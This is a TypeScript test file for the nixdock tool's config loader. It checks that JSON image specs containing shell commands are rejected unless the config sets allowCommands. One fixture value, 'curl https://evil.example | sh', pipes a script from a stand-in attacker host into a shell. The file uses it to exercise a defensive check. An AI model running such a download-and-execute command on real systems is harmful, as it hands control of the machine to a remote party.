/**
 * A JSON spec file is data: one carrying commands (extraCommands, fakeRootCommands, runAsRoot)
 * is refused unless the config opts in with `specs: { files, allowCommands: true }`; a TS/JS
 * spec is code already and needs no opt-in.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { loadConfig } from '../../src/config/load.js';
import { rejectsWith } from '../helpers/errors.js';
import { tempProject } from '../helpers/project.js';

test('a JSON spec with extraCommands is refused naming the file, the field and the config field to set', async (t) => {
  const dir = tempProject(t, {
    'nixdock.config.json': { specs: ['images/*.json'] },
    'images/app.json': { name: 'app', extraCommands: 'curl https://evil.example | sh' },
  }).dir;
  const err = await rejectsWith(loadConfig({ cwd: dir }), {
    code: 'SPEC_INVALID',
    file: join(dir, 'images/app.json'),
    field: 'extraCommands',
    message: /JSON spec file .*images\/app\.json carries extraCommands/,
    hint: /specs: \{ files: \[\.\.\.\], allowCommands: true \}.*nixdock\.config\.json/,
  });
  assert.match(err.found!, /curl https:\/\/evil\.example/);
});

test('runAsRoot and fakeRootCommands in a several-image spec are refused at their own field; in package.json the field is under nixdock', async (t) => {
  const dir = tempProject(t, {
    'nixdock.config.json': { specs: ['many.json'] },
    'many.json': { images: [{ name: 'a' }, { name: 'b', runAsRoot: 'id' }] },
  }).dir;
  await rejectsWith(loadConfig({ cwd: dir }), { code: 'SPEC_INVALID', field: 'images[1].runAsRoot', expected: /specs\.allowCommands: true/ });

  const list = tempProject(t, {
    'package.json': { name: 'fixture', private: true, type: 'module', nixdock: { specs: ['list.json'] } },
    'list.json': [{ name: 'a', fakeRootCommands: 'chown 1 x' }],
  }).dir;
  await rejectsWith(loadConfig({ cwd: list }), { code: 'SPEC_INVALID', field: '[0].fakeRootCommands', expected: /nixdock\.specs\.allowCommands: true/ });
});

test('with specs.allowCommands the same spec loads, and the globs in `files` are watched like a plain list', async (t) => {
  const dir = tempProject(t, {
    'nixdock.config.json': { specs: { files: ['images/*.json'], allowCommands: true } },
    'images/app.json': { name: 'app', extraCommands: 'mkdir -p etc', runAsRoot: 'true', fakeRootCommands: 'true' },
  }).dir;
  const config = await loadConfig({ cwd: dir });
  assert.equal(config.images[0]!.extraCommands, 'mkdir -p etc');
  assert.equal(config.images[0]!.runAsRoot, 'true');
  assert.deepEqual(config.specGlobs, ['images/*.json']);
  assert.ok(config.dependencies.includes(join(dir, 'images/app.json')));
});

test('allowCommands: false, or a plain list, refuses; commands in the config itself and in a TS spec need no opt-in', async (t) => {
  const off = tempProject(t, {
    'nixdock.config.json': { specs: { files: ['app.json'], allowCommands: false } },
    'app.json': { name: 'app', extraCommands: 'true' },
  }).dir;
  await rejectsWith(loadConfig({ cwd: off }), { code: 'SPEC_INVALID', field: 'extraCommands' });

  const code = tempProject(t, {
    'nixdock.config.json': { images: [{ name: 'inline', extraCommands: 'true' }], specs: ['app.ts'] },
    'app.ts': `export default { name: 'app', extraCommands: 'mkdir -p etc' };`,
  }).dir;
  const config = await loadConfig({ cwd: code });
  assert.deepEqual(config.images.map((image) => image.extraCommands), ['true', 'mkdir -p etc']);
});

test('a malformed specs object is a config error naming the field', async (t) => {
  const dir = tempProject(t, { 'nixdock.config.json': { specs: { files: ['a.json'], allowComands: true } } }).dir;
  const err = await rejectsWith(loadConfig({ cwd: dir }), { code: 'CONFIG_INVALID' });
  assert.match(`${err.message} ${err.location?.field} ${err.found} ${err.expected} ${err.hint}`, /specs/);
});
